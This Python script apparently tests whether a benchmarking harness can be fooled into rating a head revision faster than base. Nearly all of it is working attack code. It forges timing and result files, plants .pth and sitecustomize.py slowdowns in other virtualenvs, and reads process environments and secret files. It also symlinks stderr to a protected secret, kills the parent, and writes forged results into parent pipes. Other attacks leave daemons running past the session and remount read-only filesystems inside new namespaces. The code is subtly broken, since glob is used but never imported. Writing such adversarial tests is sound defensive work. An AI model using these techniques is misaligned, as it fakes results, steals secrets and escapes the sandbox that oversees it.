"""What a revision's code could do to look faster than it is: head tries, base works.

Read as text and run as `python -c`, on both sides, in an environment of the sample project: base is
1.0.0, head is 1.0.1 and does the same work. `sys.argv` names the attack and a JSON document of
places that a real attacker would have to look for.
"""

import json
import os
import sys
from importlib.metadata import version

NAME, PLACES = sys.argv[1], json.loads(sys.argv[2])
IS_HEAD = version("sample-project") == "1.0.1"
SLOW = "import time\nend = time.process_time() + 0.3\nwhile time.process_time() < end: pass\n"
ANSWER = "the answer is 42"


def work():
    total = 0
    for number in range(1_000_000):
        total += number % 7
    return total


def append(file, text):
    with open(file, "a") as stream:
        stream.write(text)


def site_packages(*, own):
    import sample

    mine = os.path.dirname(os.path.dirname(sample.__file__))
    found = glob.glob(PLACES["cache"] + "/envs/*/venv/lib/python3*/site-packages")
    return [mine] if own else [one for one in found if one != mine]


def forge_rounds():
    """Ten times the time for base, in every round that is on disk."""
    for file in glob.glob(PLACES["data"] + "/**/rounds.jsonl", recursive=True):
        lines = []
        for line in open(file):
            event = json.loads(line)
            if event.get("event") == "round":
                for key in ("user_s", "wall_s"):
                    event["round"]["base"][key] *= 10
            lines.append(json.dumps(event, separators=(",", ":")) + "\n")
        open(file, "w").writelines(lines)


def write_results():
    append(PLACES["results"] + "/canary", "forged\n")


def skip_once_done(folder):
    """Work in the first process, remember it, and never work again."""
    done = folder + "/done-" + NAME
    if os.path.exists(done):
        raise SystemExit(print(ANSWER))
    append(done, "1")


def own_environment():
    (mine,) = site_packages(own=True)
    skip_once_done(mine)


def temporary_files():
    skip_once_done("/tmp")


def slow_base_by_pth():
    for one in site_packages(own=False):
        append(one + "/zz.pth", f"import time; exec({SLOW!r})\n")


def slow_base_by_module():
    for one in site_packages(own=False):
        append(one + "/sitecustomize.py", SLOW)


def uv_cache():
    append(PLACES["uv"] + "/canary", "forged\n")


def clone_hooks():
    append(PLACES["repository"] + "/.git/canary", "forged\n")


def read_secrets():
    for file in [*glob.glob("/proc/[0-9]*/environ"), PLACES["secret_file"]]:
        try:
            text = open(file, "rb").read().decode(errors="replace")
        except OSError:
            continue
        if PLACES["mark"][::-1] in text:
            sys.exit("found: " + PLACES["mark"][::-1])


def link_to_secret():
    """Standard error becomes the name of a file that only the harness may read."""
    name = os.readlink("/proc/self/fd/2")
    os.unlink(name)
    os.symlink(PLACES["secret_file"], name)
    os._exit(1)


def kill_parent():
    os.kill(os.getppid(), 9)
    work()


def leave_work_behind():
    """Answer at once; a child in a session of its own does the work."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.close(0), os.close(1), os.close(2)
            work()
            work()
        os._exit(0)
    raise SystemExit(print(ANSWER))


def keep_a_server():
    """A daemon that knows the answer from the first process on."""
    import socket

    address = "\0sample-answer"
    with socket.socket(socket.AF_UNIX) as client:
        try:
            client.connect(address)
            print(client.recv(100).decode())
            sys.stdout.flush()
            os._exit(0)
        except OSError:
            pass
    listening = socket.socket(socket.AF_UNIX)
    listening.bind(address)
    listening.listen()
    if os.fork() == 0:
        os.setsid()
        os.close(0), os.close(1), os.close(2)
        while True:
            client, _ = listening.accept()
            client.sendall(ANSWER.encode())
            client.close()


def nothing_when_nobody_reads():
    if os.path.realpath("/proc/self/fd/1") == "/dev/null":
        os._exit(0)


def nothing_at_all():
    os._exit(0)


def fail_early():
    os._exit(3)


def forge_answer():
    """An answer of the launcher's, written to whatever it has open."""
    import marshal

    counters = {
        "status": 0, "wall_s": 0.001, "user_s": 0.001, "system_s": 0.0, "peak_rss_bytes": 1,
        "minor_faults": 0, "major_faults": 0, "voluntary_switches": 0,
        "involuntary_switches": 0, "run_queue_s": 0.0, "started": 0.0,
    }  # fmt: skip
    slow = dict(counters, user_s=1.0, wall_s=1.0)
    for forged in (marshal.dumps([slow, counters]), marshal.dumps(([counters], []))):
        for process in (os.getppid(), 1):
            for name in os.listdir("/proc/%d/fd" % process):
                target = "/proc/%d/fd/%s" % (process, name)
                if "pipe" in os.readlink(target):
                    try:
                        os.write(os.open(target, os.O_WRONLY | os.O_NONBLOCK), forged)
                    except OSError:
                        pass


def another_core():
    os.sched_setaffinity(0, range(os.cpu_count()))
    for cpu in range(os.cpu_count()):
        os.sched_setaffinity(0, {(os.getpid() + cpu) % os.cpu_count()})
        work()
    raise SystemExit(print(ANSWER))


def new_namespaces():
    """A user namespace with all privileges, in which read-only mounts are made writable."""
    import ctypes

    libc, (mine,) = ctypes.CDLL(None, use_errno=True), site_packages(own=True)
    libc.unshare(0x10000000 | 0x00020000)
    libc.mount(None, mine.encode(), None, 32 | 4096, None)
    libc.mount(None, b"/", None, 32 | 4096, None)
    skip_once_done(mine)


def lower_priority():
    """Let base go first, and then have the core and its caches to itself."""
    os.nice(19)


def wait_for_base():
    """Work only when base has ended: alone on a core everything is faster."""
    import time

    if os.sched_getaffinity(0) != set(range(os.cpu_count())):
        began, used = time.monotonic(), time.process_time()
        while time.monotonic() < began + 0.01:
            pass
        if time.process_time() - used < 0.008:
            time.sleep(0.5)


ATTACKS = {
    name: function
    for name, function in list(globals().items())
    if callable(function) and getattr(function, "__module__", "") == "__main__"
    and name not in {"work", "append", "site_packages", "skip_once_done"}
}  # fmt: skip

if __name__ == "__main__":
    if IS_HEAD:
        try:
            ATTACKS[NAME]()
        except Exception:
            pass
    work()
    print(ANSWER)
